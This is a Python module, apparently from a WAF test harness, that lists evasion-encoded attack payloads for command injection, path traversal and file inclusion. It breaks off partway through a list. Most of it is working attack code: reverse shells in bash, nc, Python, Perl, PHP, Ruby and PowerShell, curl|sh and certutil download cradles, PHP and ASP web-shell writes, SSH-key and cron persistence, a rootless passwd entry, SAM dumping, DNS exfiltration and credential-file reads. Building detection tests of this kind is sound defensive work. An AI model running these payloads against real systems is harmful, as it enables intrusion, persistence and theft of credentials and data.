"""Blind set "hundredseventythird": OS command injection, local file inclusion / path traversal and remote file
inclusion written the way a researcher hunting for a bypass of a regex-and-libinjection WAF writes them, with
benign requests that carry the same syntax innocently.

The angle: WAF-bypass research, recalled from memory. Each family's working attack is rewritten in the syntax
variants and encodings its target still accepts: quotes, backslashes, ${IFS}, globs, brace expansion and variables
that the shell removes again; carets, quotes, comma/semicolon delimiters and variable substrings that cmd.exe
ignores; backticks, string concatenation, -f formatting and base64 that PowerShell reassembles; case mixing where
the target ignores case (cmd.exe, PowerShell, PHP stream wrapper names, Windows file names, URL schemes); JSON
\\u escapes inside a whole JSON document that the backend's JSON parser decodes; percent-encoding written out on
the wire and decoded once by the framework (double encoding, overlong UTF-8 and %u forms where the named server
decodes them twice); fullwidth forms where the backend NFKC-normalises; HTML entities where a browser decodes a
reflected attribute; WHATWG URL-parser leniency (backslashes, missing slashes, ideographic full stops); Windows
path quirks (8.3 short names, ::$DATA, trailing dots). Every payload still works against the target its comment
names once that target decodes it: /bin/sh or bash behind system(), cmd.exe, PowerShell, CGI bash, PHP
include()/readfile(), Java servlet containers, IIS, Apache httpd, Node.js, Python.

Families (one sub-family per detection title):
  rce: unix-command-injection, unix-shell-expression-evasion, windows-cmd-injection, powershell,
    unix-command-names-with-paths, reverse-shells, shellshock, downloaders, file-write-via-shell,
    restricted-file-names-in-commands
  lfi: path-traversal, os-file-access, absolute-paths, null-byte-truncation, php-wrapper-lfi,
    log-poisoning-targets, restricted-file-extensions
  rfi: url-with-ip-address, url-with-trailing-question-mark, include-parameter-with-url, off-domain-reference,
    protocols

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path), once the way a WAF regression suite sends it (placements prefixed "rs-"): to
paths that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) under
arbitrary parameter names, as a query string, form body, JSON body, XML body, a raw form-typed body, in
User-Agent, Referer, a custom header or a cookie, or as a parameter name. Transport tricks: payloads written as a
whole JSON document with \\u escapes go as the JSON body ("json-body", "rs-json-body"); payloads written as the
wire form `name=value` (already percent-encoded, parameter-name tricks, parameter pollution) go unquoted as the
query string, the form body or a raw body; wire-form paths go unquoted as the URL path; upload traversal goes as
a multipart file name; Shellshock goes only into headers a CGI turns into environment variables. Payloads with
control characters never go into headers, cookies, file names or the path.

Authorship and independence: written for this repository from general knowledge of each attack family, WAF-bypass
techniques as remembered, and the detection titles alone; no WAF rule, engine source, ruleset regression test or
public payload list was read. Measured once on unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

import json
from collections.abc import Iterator, Sequence
from typing import Any

from .blind_placements import BlindSet, Cycles, Put, request
from .records import numbered, print_records

NAME = "hundredseventythird"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]
UPLOAD = ("multipart-filename", "rs-multipart-filename")

# Payloads written as they travel on the wire (`name=value` already percent-encoded, or an encoded URL path): sent
# unquoted, so the framework's single decoding step is the one that turns them into the attack.
_WIRE: set[str] = set()


def wire(*payloads: str) -> list[Entry]:
    _WIRE.update(payloads)
    return list(payloads)


def upload(*names: str) -> list[Entry]:
    return [(name, *UPLOAD) for name in names]


# ================================================================================================================
# rce
# ----------------------------------------------------------------------------------------------------------------
# unix-command-injection. Target: /bin/sh (dash or bash) behind system("ping -c 1 " . $host) or popen() of the same
SEPARATORS: list[Entry] = [
    # every separator the shell grammar has
    "127.0.0.1;id",
    "127.0.0.1|id",
    "x||id",
    "127.0.0.1&&id",
    "127.0.0.1`id`",
    "127.0.0.1$(id)",
    "127.0.0.1\nid",
    # whitespace the shell accepts around tokens (tabs), a trailing comment that eats the rest of the line
    "127.0.0.1;\tid\t#",
    # the command wraps the input in quotes: system("ping -c 1 '$host'") and system("ping -c 1 \"$host\"")
    "127.0.0.1';id;'",
    '127.0.0.1";id;"',
    # the separator hidden as a JSON \u escape in the whole document; the backend's JSON parser restores it
    r'{"host":"127.0.0.1\u003bid"}',
    r'{"host":"x\u007c\u007cid","count":1}',
    r'{"host":"127.0.0.1\u000aid"}',
    r'{"host":"\u0024(id)"}',
    # percent-encoded on the wire, decoded once by the framework before the value reaches the shell
    *wire("host=127.0.0.1%0aid", "ip=127.0.0.1%3bid", "target=%60id%60", "host=127.0.0.1%0d%0aid"),
]

# unix-shell-expression-evasion. Target: bash (dash where only POSIX syntax is used) behind the same system() call
EVASION: list[Entry] = [
    # quotes and backslashes split the word, quote removal joins it again
    "127.0.0.1;w'h'o'am'i",
    "127.0.0.1;c\\a\\t /e\\tc/pa\\ss\\wd",
    # no space allowed: ${IFS}, $IFS$9, brace expansion, an ANSI-C quoted space
    "127.0.0.1;cat${IFS}/etc/passwd",
    "127.0.0.1;cat$IFS$9/etc/passwd",
    "127.0.0.1;{cat,/etc/passwd}",
    "127.0.0.1;X=$'cat\\x20/etc/passwd'&&$X",
    # globs the shell expands to the real binary and file
    "127.0.0.1;/???/?at /???/??ss??",
    # variables, empty expansions and substrings build the word
    "127.0.0.1;a=i;b=d;$a$b",
    "127.0.0.1;cat ${HOME:0:1}etc${HOME:0:1}passwd",
    "127.0.0.1;i$@d",
    "127.0.0.1;w$()hoami",
    # the command decoded at run time: base64, octal printf, reversed, upper-cased
    "127.0.0.1;`echo aWQ=|base64 -d`",
    "127.0.0.1;$(printf '\\151\\144')",
    "127.0.0.1;$(rev<<<'imaohw')",
    "127.0.0.1;$(echo WHOAMI|tr A-Z a-z)",
    # JSON \u escapes for the quotes and the separator
    r'{"host":"127.0.0.1;w\u0027h\u0027oami"}',
    r'{"host":"127.0.0.1\u003bcat${IFS}\u002fetc\u002fpasswd"}',
    # brace expansion percent-encoded on the wire
    *wire("host=127.0.0.1%3b%7bcat%2c%2fetc%2fpasswd%7d"),
]

# windows-cmd-injection. Target: cmd.exe behind a Windows app running `cmd /c ping -n 1 <host>`
WINDOWS: list[Entry] = [
    "127.0.0.1&whoami",
    "127.0.0.1|whoami",
    "x||whoami",
    # carets, quotes inside the word and case: cmd.exe drops or ignores them all
    "127.0.0.1&w^h^o^a^m^i",
    '127.0.0.1&who"a"mi',
    "127.0.0.1&WhOaMi /aLl",
    "127.0.0.1&^t^y^p^e C:\\Windows\\win.ini",
    # comma, semicolon and equals are token delimiters to cmd.exe, like spaces
    "127.0.0.1&,;,whoami",
    "127.0.0.1&cmd,/c,whoami",
    # the command spelled by variable substrings, delayed expansion and call's second expansion pass
    "127.0.0.1&%COMSPEC:~-7,3% /c whoami",
    '127.0.0.1&cmd /v:on /c "set a=who&&set b=ami&&!a!!b!"',
    "127.0.0.1&set x=whoami&call %x%",
    # recon and out-of-band exfiltration through DNS
    "127.0.0.1&for /f %i in ('whoami') do nslookup %i.oob.attacker.example",
    "127.0.0.1&ipconfig /all",
    # JSON escape and percent-encoding on the wire
    r'{"host":"127.0.0.1\u0026whoami"}',
    *wire("host=127.0.0.1%26whoami", "host=127.0.0.1%7c%77%68%6f%61%6d%69"),
]

# powershell. Target: Windows PowerShell 5.1 (pwsh 7 where noted) started from an injected cmd.exe or sh command
POWERSHELL: list[Entry] = [
    # the script as UTF-16LE base64: whoami; Get-Content C:\Windows\win.ini
    "127.0.0.1&powershell -enc dwBoAG8AYQBtAGkA",
    "127.0.0.1&powershell -NoP -NonI -e "
    "RwBlAHQALQBDAG8AbgB0AGUAbgB0ACAAQwA6AFwAVwBpAG4AZABvAHcAcwBcAHcAaQBuAC4AaQBuAGkA",
    # download cradles, case-mixed and with backtick escapes inside identifiers (no special `e/`n/`t used)
    "127.0.0.1&powershell -nop -c \"iex(New-Object Net.WebClient).DownloadString('http://203.0.113.7/p.ps1')\"",
    "127.0.0.1&pOwErShElL -NoP -W hIdDeN -c IEX(iwr http://203.0.113.7/a -UseB)",
    "127.0.0.1&powershell \"ie`x(ne`w-obj`ect Net.W`ebCl`ient).d`ownloadstr`ing('http://203.0.113.7/x')\"",
    # the command name built from pieces: concatenation, -f formatting, char codes, base64, a variable
    "127.0.0.1&powershell -c \"& ('who'+'ami')\"",
    "127.0.0.1&powershell -c \"('{1}{0}' -f 'ami','who')|iex\"",
    "127.0.0.1&powershell -c \"iex(-join[char[]](119,104,111,97,109,105))\"",
    "127.0.0.1&powershell -c \"iex([Text.Encoding]::ASCII.GetString([Convert]::FromBase64String('d2hvYW1p')))\"",
    "127.0.0.1&powershell -c \"$a='Inv'+'oke-Exp'+'ression';&$a 'whoami'\"",
    # .NET directly, file reads and writes
    "127.0.0.1&powershell -c [Diagnostics.Process]::Start('cmd','/c whoami')",
    "127.0.0.1&powershell -c \"gc C:\\Windows\\win.ini\"",
    "127.0.0.1|powershell -c \"Start-Process cmd -ArgumentList '/c whoami > C:\\inetpub\\wwwroot\\o.txt'\"",
    # JSON escape and percent-encoding on the wire
    r'{"host":"127.0.0.1\u0026powershell -c whoami"}',
    r'{"host":"127.0.0.1\u0026powershell -c \u0022iex(iwr http://203.0.113.7/b -UseB)\u0022"}',
    *wire("host=127.0.0.1%26powershell+-c+whoami",
          "host=127.0.0.1%26%70%6f%77%65%72%73%68%65%6c%6c+-enc+dwBoAG8AYQBtAGkA"),
]

# unix-command-names-with-paths. Target: /bin/sh behind system(); Windows cmd.exe for the drive-letter paths
PATHS: list[Entry] = [
    "127.0.0.1;/bin/cat /etc/hostname",
    "127.0.0.1;/usr/bin/id",
    "127.0.0.1|/bin/sh -c id",
    "127.0.0.1&&/usr/bin/whoami",
    "127.0.0.1`/usr/bin/id`",
    # the path bent out of shape: doubled slashes, dot segments, backslashes, globs
    "127.0.0.1;/bin//cat /etc//hostname",
    "127.0.0.1;/usr/./bin/./id",
    "127.0.0.1;/usr/local/../bin/id",
    "127.0.0.1;\\/bin\\/cat /etc\\/hostname",
    "127.0.0.1;/usr/bin/i[d]",
    "127.0.0.1;/bin/b?sh -c id",
    "127.0.0.1;/usr/bin/python3 -c 'import os;os.system(\"id\")'",
    # Windows binaries by full path, with %SystemRoot% and odd case
    "127.0.0.1&C:\\Windows\\System32\\cmd.exe /c whoami",
    "127.0.0.1&c:\\windows\\system32\\WindowsPowerShell\\v1.0\\powershell.exe -c whoami",
    "127.0.0.1&%SystemRoot%\\System32\\WHOAMI.EXE",
    # JSON escape and percent-encoding on the wire
    r'{"host":"127.0.0.1;\u002fbin\u002fcat \u002fetc\u002fhostname"}',
    *wire("host=127.0.0.1%3b%2fusr%2fbin%2fid"),
]

# reverse-shells. Target: the shell and interpreters on a Linux host (bash, nc, python3, perl, socat, php, ruby);
# PowerShell on Windows
REVERSE: list[Entry] = [
    "127.0.0.1;bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
    "127.0.0.1;bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'",
    "127.0.0.1;bash -c 'exec 5<>/dev/tcp/203.0.113.7/4444;cat <&5|while read l;do $l 2>&5 >&5;done'",
    "127.0.0.1;rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f",
    "127.0.0.1;nc -e /bin/sh 203.0.113.7 4444",
    "127.0.0.1;busybox nc 203.0.113.7 4444 -e sh",
    "127.0.0.1;python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.7\",4444));"
    "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'",
    "127.0.0.1;perl -e 'use Socket;$i=\"203.0.113.7\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
    "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");"
    "exec(\"/bin/sh -i\");};'",
    "127.0.0.1;socat tcp-connect:203.0.113.7:4444 exec:sh,pty,stderr,setsid,sigint,sane",
    "127.0.0.1;php -r '$s=fsockopen(\"203.0.113.7\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
    "127.0.0.1;ruby -rsocket -e'f=TCPSocket.open(\"203.0.113.7\",4444).to_i;"
    "exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'",
    # obfuscated: the command as base64 with ${IFS} for spaces, a decimal IP bash hands to getaddrinfo, quotes in names
    "127.0.0.1;echo${IFS}YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuNy80NDQ0IDA+JjE=|base64${IFS}-d|bash",
    "127.0.0.1;bash -c 'bash -i >& /dev/tcp/3405803783/4444 0>&1'",
    "127.0.0.1;n''c 203.0.113.7 4444 -e /b''in/s''h",
    # PowerShell TCP client on Windows
    "127.0.0.1&powershell -nop -c \"$c=New-Object Net.Sockets.TCPClient('203.0.113.7',4444);$s=$c.GetStream();"
    "[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(New-Object Text.ASCIIEncoding)"
    ".GetString($b,0,$i);$r=(iex $d 2>&1|Out-String);$t=([Text.Encoding]::ASCII).GetBytes($r);"
    "$s.Write($t,0,$t.Length)}\"",
    # JSON escape and percent-encoding on the wire
    r'{"host":"127.0.0.1\u003bbash -c \u0027bash -i \u003e\u0026 /dev/tcp/203.0.113.7/4444 0\u003e\u00261\u0027"}',
    *wire("host=127.0.0.1%3bnc+203.0.113.7+4444+-e+%2fbin%2fsh"),
]

# shellshock (CVE-2014-6271 and the CVE-2014-6278 parser variant). Target: bash run by a CGI script, which imports
# the request headers as HTTP_* environment variables; sent in User-Agent, Referer and a custom header only
SHELLSHOCK: list[Entry] = [
    "() { :; }; echo; /bin/id",
    "() { :;}; /bin/bash -c 'cat /etc/passwd'",
    "() { :; }; /bin/bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
    "() { :; }; /usr/bin/wget http://203.0.113.7/x -O /tmp/x",
    "() { ignored; }; /bin/sleep 20",
    "() { :;}; echo Content-Type: text/plain; echo; /bin/cat /etc/passwd",
    "() { _; } >_[$($())] { id; }",
    "() {  :  ;  }  ;  /bin/ping -c 3 203.0.113.7",
    "() { :; }; /bin/bash -c \"nc 203.0.113.7 4444 -e /bin/bash\"",
    "() { x; }; /bin/bash -c \"$(echo aWQ= | base64 -d)\"",
    "() { :; }; /usr/bin/curl -s http://203.0.113.7/s | /bin/bash",
    "() { :;};/bin/cat /etc/shadow",
    "() { a; };  /bin/b''ash -c i''d",
    "() { :; }; /bin/bash -c '{cat,/etc/passwd}'",
    "() { :; }; /???/?at /???/p?ss??",
    "() { :; }; echo vulnerable > /tmp/shellshock",
    "() { :; }; /bin/bash -c 'id > /dev/tcp/203.0.113.7/80'",
]

# downloaders. Target: /bin/sh with curl, wget or python3 on the host; cmd.exe LOLBins on Windows
DOWNLOADERS: list[Entry] = [
    "127.0.0.1;curl -s http://203.0.113.7/x.sh|sh",
    "127.0.0.1;wget -qO- http://203.0.113.7/x|bash",
    "127.0.0.1;curl http://203.0.113.7/s -o /tmp/s;chmod +x /tmp/s;/tmp/s",
    "127.0.0.1$(curl -fsSL 203.0.113.7/i|sh)",
    "127.0.0.1`wget -O - 203.0.113.7/i|sh`",
    # quote splitting, ${IFS}, a backslash in the name, and the address in hex and decimal (inet_aton accepts both)
    "127.0.0.1;c''url${IFS}203.0.113.7/x|s''h",
    "127.0.0.1;cu\\rl 203.0.113.7/x|sh",
    "127.0.0.1;curl 0xcb.0x0.0x71.0x7/x|sh",
    "127.0.0.1;wget -O- 3405803783/x|sh",
    "127.0.0.1;python3 -c \"import urllib.request as u;exec(u.urlopen('http://203.0.113.7/p').read())\"",
    "127.0.0.1;curl -o /var/www/html/s.php http://203.0.113.7/s.txt",
    # Windows: certutil, bitsadmin, regsvr32 (squiblydoo), carets in the name
    "127.0.0.1&certutil -urlcache -split -f http://203.0.113.7/a.exe %TEMP%\\a.exe&%TEMP%\\a.exe",
    "127.0.0.1&bitsadmin /transfer j /download /priority high http://203.0.113.7/a.exe C:\\Users\\Public\\a.exe",
    "127.0.0.1&regsvr32 /s /n /u /i:http://203.0.113.7/a.sct scrobj.dll",
    "127.0.0.1&c^e^r^t^u^t^i^l -urlcache -f http://203.0.113.7/a.exe a.exe",
    # JSON escape and percent-encoding on the wire
    r'{"host":"127.0.0.1\u0060curl 203.0.113.7/s\u007csh\u0060"}',
    *wire("host=127.0.0.1%3bcurl+203.0.113.7%2fx%7csh"),
]

# file-write-via-shell. Target: /bin/sh or bash writing a web shell, an SSH key, a cron line or a passwd entry;
# cmd.exe and PowerShell writing into the IIS web root
FILEWRITE: list[Entry] = [
    "127.0.0.1;echo '<?php system($_GET[c]);?>' > /var/www/html/c.php",
    "127.0.0.1;echo PD9waHAgc3lzdGVtKCRfR0VUW2NdKTs/Pg==|base64 -d>/var/www/html/c.php",
    "127.0.0.1;echo${IFS}PD9waHAgc3lzdGVtKCRfR0VUW2NdKTs/Pg==|base64${IFS}-d>/var/www/html/d.php",
    "127.0.0.1;printf '<?=`$_GET[0]`?>' > /var/www/html/0.php",
    "127.0.0.1;echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHh8mAQaRTs0vu3kN5qzZcNcGqVE9N1hcMFCo0kA5x3m op@box' "
    ">> /root/.ssh/authorized_keys",
    "127.0.0.1;echo '* * * * * root bash -c \"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\"' >> /etc/crontab",
    "127.0.0.1;tee /var/www/html/x.php <<< '<?php eval($_POST[1]);?>'",
    "127.0.0.1;echo 'r00t::0:0::/root:/bin/bash'|tee -a /etc/passwd",
    "127.0.0.1;cat > /tmp/x.sh <<'E'\nid > /tmp/o\nE",
    "127.0.0.1;sed -i '1i <?php system($_GET[0]);?>' /var/www/html/index.php",
    "127.0.0.1;printf '\\074?php system($_GET[1]);?\\076' > /var/www/html/1.php",
    "127.0.0.1;>/var/www/html/e.php echo '<?php eval($_REQUEST[e]);?>'",
    "127.0.0.1;w''get -q 203.0.113.7/s.txt -O /var/www/html/up.php",
    # cmd.exe: carets escape the angle brackets of an ASP shell; PowerShell Set-Content
    "127.0.0.1&echo ^<%eval request(\"c\")%^> > C:\\inetpub\\wwwroot\\c.asp",
    "127.0.0.1&powershell -c \"Set-Content C:\\inetpub\\wwwroot\\t.txt pwned\"",
    # JSON escape and percent-encoding on the wire
    r'{"host":"127.0.0.1\u003becho \u0027\u003c?php system($_GET[c]);?\u003e\u0027 \u003e /var/www/html/j.php"}',
    *wire("host=127.0.0.1%3becho+%27%3C%3Fphp+system(%24_GET%5Bc%5D)%3B%3F%3E%27+%3E+%2Fvar%2Fwww%2Fhtml%2Fw.php"),
]

# restricted-file-names-in-commands. Target: /bin/sh or bash reading credentials files; cmd.exe on Windows
RESTRICTED: list[Entry] = [
    "127.0.0.1;cat /etc/passwd",
    "127.0.0.1;cat /etc/shadow",
    "127.0.0.1|head -n5 /etc/passwd",
    "127.0.0.1;base64 /etc/shadow",
    "127.0.0.1;xxd /root/.ssh/id_rsa",
    "127.0.0.1;cat /proc/self/environ",
    "127.0.0.1;cat /var/www/html/.env",
    # the file name split, globbed or padded so no literal name appears
    "127.0.0.1;cat /etc/pa*wd",
    "127.0.0.1;cat /etc/pass''wd",
    "127.0.0.1;cat /e??/sh?dow",
    # no cat at all: bash $(<file), a read loop, curl uploading the file
    "127.0.0.1;echo $(</etc/passwd)",
    "127.0.0.1;while read l;do echo $l;done</etc/passwd",
    "127.0.0.1;curl -F f=@/etc/passwd http://203.0.113.7/",
    # Windows
    "127.0.0.1&type C:\\boot.ini",
    "127.0.0.1&reg save HKLM\\SAM C:\\Windows\\Temp\\sam",
    # JSON escape and percent-encoding on the wire
    r'{"host":"127.0.0.1;cat \u002fetc\u002fshadow"}',
    *wire("host=127.0.0.1%3bcat+%2fetc%2fpasswd"),
]

# ================================================================================================================
# lfi
# ----------------------------------------------------------------------------------------------------------------
# path-traversal. Target: a file download/include handler joining the parameter onto its base directory (PHP
# include()/readfile(), Python open(), Node fs.readFile); the server each encoding needs is named above it
TRAVERSAL: list[Entry] = [
    "../../../../etc/passwd",
    "..\\..\\..\\..\\windows\\win.ini",
    "..///////..////..//////etc/passwd",
    # PHP str_replace('../', '') applied once: the removal itself rebuilds the sequence
    "....//....//....//etc/passwd",
    "..././..././..././etc/passwd",
    "....\\\\....\\\\....\\\\windows\\\\win.ini",
    # a prefix check (startswith('/var/www/html')) passed first, then walked out of
    "/var/www/html/../../../etc/passwd",
    # percent-encoded on the wire, decoded once by the framework
    *wire("file=..%2f..%2f..%2f..%2fetc%2fpasswd",
          "file=%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
          "file=..%5c..%5c..%5cwindows%5cwin.ini",
          "doc=%2E%2E%5C%2E%2E%5C%2E%2E%5CWindows%5Cwin.ini"),
    # double encoding. Target: a Java/.NET handler that URL-decodes the already decoded parameter again
    *wire("file=%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd",
          "file=..%255c..%255c..%255cboot.ini"),
    # overlong UTF-8 slash and dot. Target: IIS 5 and Tomcat with URIEncoding=UTF-8 (CVE-2008-2938)
    *wire("file=..%c0%af..%c0%af..%c0%afetc%c0%afpasswd", "file=%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    # %u encoding. Target: IIS / classic ASP, which decodes %uXXXX
    *wire("file=%u002e%u002e%u002f%u002e%u002e%u002fwindows%u002fwin.ini"),
    # the dots and slashes as JSON \u escapes in the whole document
    r'{"file":"\u002e\u002e\u002f\u002e\u002e\u002f\u002e\u002e\u002fetc\u002fpasswd"}',
    r'{"path":"..\u005c..\u005c..\u005cwindows\u005cwin.ini"}',
    # fullwidth full stop and solidus. Target: a Python backend that NFKC-normalises input before open()
    "\uff0e\uff0e\uff0f\uff0e\uff0e\uff0f\uff0e\uff0e\uff0fetc\uff0fpasswd",
    # in the URL path. Targets: Tomcat path parameters (..;/), Apache 2.4.49/2.4.50 (CVE-2021-41773/42013), nginx
    # alias without a trailing slash, a static handler decoding %2f after routing
    *wire("/..;/..;/..;/etc/passwd",
          "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
          "/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/etc/passwd",
          "/static../app/settings.py"),
    # upload file names the server joins onto its upload directory (zip-slip style write into the web root)
    *upload("../../../../var/www/html/shell.php",
            "..\\..\\..\\inetpub\\wwwroot\\shell.aspx",
            "filename*=UTF-8''..%2F..%2F..%2Fvar%2Fwww%2Fhtml%2Fs.php"),
]

# os-file-access. Target: the same handler reaching the files worth reading on Linux, Windows/IIS, Java and
# container hosts
OSFILES: list[Entry] = [
    "../../../../etc/shadow",
    "../../../../proc/self/cmdline",
    "../../../../proc/self/cwd/config.py",
    "../../../../proc/self/root/etc/shadow",
    "../../../../root/.ssh/id_rsa",
    "../../../../etc/ssh/ssh_host_rsa_key",
    "../../../../root/.aws/credentials",
    "../../../../var/run/secrets/kubernetes.io/serviceaccount/token",
    "../../.env",
    "../../.git/config",
    "../.htaccess",
    "../../WEB-INF/web.xml",
    "..\\..\\web.config",
    "..\\..\\..\\..\\boot.ini",
    "..\\..\\..\\..\\windows\\system32\\drivers\\etc\\hosts",
    # Windows ignores case, strips trailing dots, serves ::$DATA and 8.3 short names (IIS source disclosure)
    "..\\..\\..\\WiNdOwS\\WiN.InI",
    "..\\..\\..\\windows\\win.ini......",
    "..\\..\\web.config::$DATA",
    "..\\..\\WEB~1.CON",
    # the file name itself percent-encoded on the wire, and as JSON \u escapes
    *wire("file=..%2f..%2f%2e%65nv", "file=..%2f..%2f%2egit%2fconfig"),
    r'{"file":"../../\u002egit/config"}',
    r'{"template":"..\u002f..\u002f..\u002froot\u002f.ssh\u002fid_rsa"}',
    # asked for directly in the URL path
    *wire("/.git/config", "/.env", "/WEB-INF/web.xml"),
]

# absolute-paths. Target: a handler that opens the parameter as it is (PHP readfile(), Python open(), Java
# new File()/URL, Windows CreateFileW)
ABSOLUTE: list[Entry] = [
    "/etc/passwd",
    "/proc/self/environ",
    "/proc/1/environ",
    "/root/.bash_history",
    "/etc/nginx/nginx.conf",
    "/usr/local/tomcat/conf/tomcat-users.xml",
    "/var/www/html/config.php",
    "C:\\Windows\\win.ini",
    "c:/boot.ini",
    "C:\\inetpub\\wwwroot\\web.config",
    "C:/xampp/apache/conf/httpd.conf",
    # the same files behind redundant slashes and dot segments, case-mixed on Windows
    "//etc//passwd",
    "/./etc/./passwd",
    "c:\\WINDOWS\\System32\\..\\WIN.INI",
    # Win32 device and long-path prefixes
    "\\\\?\\C:\\Windows\\win.ini",
    "\\\\.\\C:\\Windows\\win.ini",
    # file: URLs. Targets: PHP fopen wrappers, Java URL (file:/ and file:///), curl
    "file:///etc/passwd",
    "file://localhost/etc/passwd",
    "file:/etc/shadow",
    "FILE:///c:/windows/win.ini",
    # JSON \u escapes, fullwidth solidus (NFKC-normalising Python backend), and percent-encoding on the wire
    r'{"file":"\u002fetc\u002fpasswd"}',
    r'{"path":"C:\u005cWindows\u005cwin.ini"}',
    "\uff0fetc\uff0fpasswd",
    *wire("file=%2fetc%2fpasswd", "file=%2Fproc%2Fself%2Fenviron"),
]

# null-byte-truncation. Target: PHP before 5.3.4 (include($_GET['page'] . '.php') stops at the NUL byte), Java
# before 7u40 (java.io.File truncates at NUL), PHP before 5.3 on a 4096-byte MAXPATHLEN
NULLBYTE: list[Entry] = [
    "../../../../etc/passwd\x00",
    "../../../../etc/passwd\x00.php",
    "../../../../etc/passwd\x00.png",
    "/etc/passwd\x00.html",
    "..\\..\\..\\boot.ini\x00.txt",
    "....//....//....//etc/passwd\x00",
    # percent-encoded on the wire; %2500 for a handler that decodes twice
    *wire("page=../../../../etc/passwd%00",
          "page=..%2f..%2f..%2fetc%2fpasswd%00.php",
          "file=%2fetc%2fpasswd%2500",
          "lang=../../../../etc/passwd%00en",
          "file=C:%5cboot.ini%00",
          "template=../../../../etc/shadow%00.tpl"),
    # the NUL as a JSON \u escape; the parser hands the raw byte to the file API
    r'{"page":"../../../etc/passwd\u0000"}',
    r'{"template":"../../../../etc/passwd\u0000.html"}',
    r'{"file":"..\u005c..\u005cwindows\u005cwin.ini\u0000.pdf"}',
    # in the URL path
    *wire("/..%2f..%2f..%2fetc%2fpasswd%00.png"),
    # path truncation: the suffix falls off the end of a 4096-byte path
    "../../../../etc/passwd" + "/." * 2100,
    "....//....//....//etc/passwd" + "/." * 2100,
]

# php-wrapper-lfi. Target: PHP include()/file_get_contents() on the parameter (wrapper names are case-insensitive;
# php://filter url-decodes its filter names once more)
WRAPPERS: list[Entry] = [
    "php://filter/convert.base64-encode/resource=index.php",
    "php://filter/read=convert.base64-encode/resource=../config.php",
    "php://filter/resource=../../../../etc/passwd",
    "php://filter/convert.base64-encode/resource=../../../../var/www/html/wp-config.php",
    "php://filter/read=convert.base64-encode/resource=file:///etc/passwd",
    "pHp://FilTer/convert.base64-encode/resource=config.php",
    "PHP://filter/convert.base64-encode/resource=index",
    # other filters that still leak the source: rot13, iconv to UTF-16, deflate, quoted-printable, chains
    "php://filter/string.rot13/resource=config.php",
    "php://filter/convert.iconv.utf-8.utf-16le/resource=config.php",
    "php://filter/zlib.deflate/convert.base64-encode/resource=/etc/passwd",
    "php://filter/read=string.toupper|string.rot13/resource=index.php",
    "php://filter/convert.quoted-printable-encode/resource=.env",
    "php://filter/convert.base64-encode|convert.base64-encode/resource=config.php",
    # the filter name percent-encoded: the framework decodes once, php://filter a second time
    "php://filter/%63onvert.base64-encode/resource=index.php",
    "php://filter/read=%73tring.rot13/resource=config.php",
    # code execution: the request body, an uploaded phar or zip
    "php://input",
    "phar://uploads/avatar.jpg/shell.php",
    "zip://uploads/archive.zip#shell.php",
    "compress.zlib:///etc/passwd",
    # JSON \u escapes and percent-encoding on the wire
    r'{"page":"php\u003a//filter/convert.base64-encode/resource=config.php"}',
    r'{"page":"\u0070hp://filter/resource=/etc/passwd"}',
    *wire("page=php%3a%2f%2ffilter%2fconvert.base64-encode%2fresource%3dindex.php",
          "page=home&page=php://filter/convert.base64-encode/resource=index.php"),
]

# log-poisoning-targets. Target: PHP include() of a log or session file the attacker has written PHP into (via
# User-Agent, an SSH user name, a mail, a session value), then run through include
LOGS: list[Entry] = [
    "../../../../var/log/apache2/access.log",
    "/var/log/apache2/error.log",
    "/var/log/nginx/access.log",
    "../../../../var/log/nginx/error.log",
    "/var/log/httpd/access_log",
    "/var/log/httpd/error_log",
    "/usr/local/apache2/logs/access_log",
    "/opt/lampp/logs/access_log",
    "../../../../var/log/auth.log",
    "/var/log/vsftpd.log",
    "/var/log/mail.log",
    "/var/mail/www-data",
    "/proc/self/fd/2",
    "/proc/self/fd/7",
    "/var/lib/php/sessions/sess_9f2c1ab7e4d54e0a8d3c6b21f0a7c9de",
    "/tmp/sess_9f2c1ab7e4d54e0a8d3c6b21f0a7c9de",
    "C:\\xampp\\apache\\logs\\access.log",
    "C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex240601.log",
    # behind traversal tricks, JSON escapes and wire encoding; the last includes the log and passes the command
    "....//....//....//var/log/nginx/access.log",
    r'{"page":"\u002fvar\u002flog\u002fapache2\u002faccess.log"}',
    *wire("page=..%2f..%2f..%2fvar%2flog%2fapache2%2faccess.log",
          "page=../../../../var/log/apache2/access.log&c=id"),
]

# restricted-file-extensions. Target: a download handler or the web server itself serving backup, editor, config
# and dump files; Windows/IIS tricks (case, 8.3 names, trailing dot, ::$DATA) where the file system allows them
EXTENSIONS: list[Entry] = [
    "config.php.bak",
    "index.php~",
    "wp-config.php.old",
    "web.config.bak",
    "database.sql",
